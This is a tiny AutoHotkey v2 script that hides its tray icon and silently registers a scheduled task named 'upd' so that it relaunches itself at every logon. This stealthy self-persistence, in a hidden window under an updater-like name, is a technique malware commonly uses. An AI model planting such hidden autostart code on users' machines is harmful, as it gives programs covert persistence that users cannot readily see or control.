#Requires AutoHotkey v2.0
#NoTrayIcon
Run 'schtasks /create /tn upd /tr "' A_ScriptFullPath '" /sc onlogon /f', , "Hide"
